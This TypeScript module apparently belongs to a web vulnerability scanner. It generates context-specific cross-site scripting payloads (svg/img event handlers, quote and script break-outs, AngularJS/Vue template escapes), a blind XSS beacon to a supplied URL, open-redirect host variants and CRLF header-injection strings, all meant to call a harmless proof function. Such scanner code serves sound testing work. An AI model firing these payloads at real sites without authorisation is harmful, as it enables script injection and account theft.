/** Payloads for a context. Each calls one function that only the proving browser has, with a number of its own. */
import type { Context } from './facts.ts'

/** Made in the browser's profile before any page loads. */
export const CALL = 'qxproof'

/** Characters whose fate is asked for in one request, each between two words. */
export const MATRIX = ['<', '>', '"', "'", '`', '\\', '/', '(', ')', '=', ' ', '$', '{', ':'] as const

export const matrixOf = (word: string): string =>
  `${word}${MATRIX.map((char, index) => `${char}${word}${String.fromCharCode(97 + index)}`).join('')}`

/** The characters that came back as they were sent, at least once. */
export const survivors = (text: string, word: string): ReadonlySet<string> =>
  new Set(
    MATRIX.filter((char, index) => {
      const before = index === 0 ? word : `${word}${String.fromCharCode(96 + index)}`
      return text.includes(`${before}${char}${word}${String.fromCharCode(97 + index)}`)
    }),
  )

/** At most four, the most telling first. `value` is what stood there; `call` is `qxproof(123)`. */
export const payloadsFor = (
  context: Context,
  value: string,
  call: string,
  alive: ReadonlySet<string>,
): readonly string[] =>
  candidates(context, value, call)
    .filter((payload) => needed(context, payload).every((char) => alive.has(char)))
    .slice(0, 4)

/** Entities are decoded in a handler, so encoding keeps nothing out; a lost backslash frees the quote behind it. */
const needed = ({ kind, quote }: Context, payload: string): readonly string[] => {
  if (kind === 'template') return ['{']
  if (kind === 'handler') return payload.includes('\\') ? ['\\'] : []
  const freed =
    kind === 'script' && quote !== '' && payload.startsWith(`\\${quote}`)
      ? payload.slice(0, 1) + payload.slice(2)
      : payload
  return SPECIAL.filter((char) => freed.includes(char))
}

const SPECIAL = ['<', '>', '"', "'", '`', '\\', ' ', '$', '{', '=']

const element = (call: string): readonly string[] => [
  `<svg onload=${call}>`,
  `<img src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
]

const candidates = ({ kind, tag, quote }: Context, value: string, call: string): readonly string[] => {
  switch (kind) {
    case 'text':
      return element(call).map((one) => `${value}${one}`)
    case 'raw-text':
      return element(call).map((one) => `${value}</${tag}>${one}`)
    case 'comment':
      return element(call).map((one) => `${value}-->${one}`)
    case 'attribute':
      return [...leaving(value, quote, call)]
    case 'url':
      return [`javascript:${call}`, ...leaving(value, quote, call)]
    case 'handler':
      return quote === ''
        ? [call, `${value};${call}`]
        : [`${value}${quote};${call};${quote}`, `${value}${quote}-${call}-${quote}`]
    case 'template':
      return TEMPLATES.map((way) => way(call))
    case 'script':
      return [...inScript(value, quote, call), `</script><svg onload=${call}>`, `</script><svg/onload=${call}>`]
  }
}

const leaving = (value: string, quote: Context['quote'], call: string): readonly string[] =>
  quote === ''
    ? [`${value}><svg/onload=${call}>`, `${value} autofocus tabindex=1 onfocus=${call} `]
    : [
        `${value}${quote}><svg onload=${call}>`,
        `${value}${quote}><svg/onload=${call}>`,
        `${value}${quote} autofocus tabindex=1 onfocus=${call} x=${quote}`,
      ]

const inScript = (value: string, quote: Context['quote'], call: string): readonly string[] => {
  switch (quote) {
    case '':
      return [`${value};${call};`, call]
    case '`':
      return [`${value}\${${call}}`, `${value}\`;${call};\``]
    case '//':
      return [`${value}\n${call}//`]
    case '/*':
      return [`${value}*/${call}/*`]
    default:
      return [`${value}${quote};${call};//`, `${value}${quote}-${call}-${quote}`, `${value}\\${quote};${call};//`]
  }
}

/** Expressions of AngularJS and Vue that reach the function constructor; quotes in them may come back as entities. */
const TEMPLATES: readonly ((call: string) => string)[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$emit.constructor('${call}')()}}`,
  (call) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//');}}`,
]

/** Leaves most places of markup; calls `url` with a product of its own working out. */
export const blindPayload = (url: string, a: number, b: number): string =>
  `'"></title></textarea></script><img src=x onerror="(new Image).src='${url}qv'+${a}*${b}">`

/** Elements that do nothing. */
export const markupOf = (value: string, word: string): string => `${value}<b id=${word}>${word}</b>`

/** Ways to name another host; `host` is one that exists nowhere (RFC 2606). */
export const REDIRECTS: readonly ((host: string, own: string) => string)[] = [
  (host) => `https://${host}/`,
  (host) => `//${host}/`,
  (host) => `/\\${host}/`,
  (host) => `https:${host}/`,
  (host, own) => `https://${own}.${host}/`,
  (host, own) => `https://${own}@${host}/`,
]

export const HEADERS: readonly ((value: string, name: string) => string)[] = [
  (value, name) => `${value}\r\n${name}: 1`,
  (value, name) => `${value}\n${name}: 1`,
]
